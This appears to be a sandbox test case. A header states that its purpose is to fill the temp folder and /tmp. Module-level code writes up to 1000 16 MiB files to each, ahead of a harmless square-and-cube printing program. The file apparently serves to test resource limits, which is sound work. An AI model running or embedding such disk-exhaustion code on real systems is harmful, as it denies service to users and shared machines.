# /// case
# exercise = "process_pair"
# most = 4
# about = "fill the temporary folder and /tmp, until the file system refuses"
# ///
import tempfile

for folder in (tempfile.gettempdir(), '/tmp'):
    for number in range(1000):
        try:
            with open(f'{folder}/{number}.bin', 'wb') as file:
                file.write(bytes(16 << 20))
        except OSError:
            break


def print_square(num):
    print(f"Square: {num ** 2}")


def print_cube(num):
    print(f"Cube: {num ** 3}")


def main(num=10):
    print_square(num)
    print_cube(num)
    print('Done!')


if __name__ == "__main__":
    main()
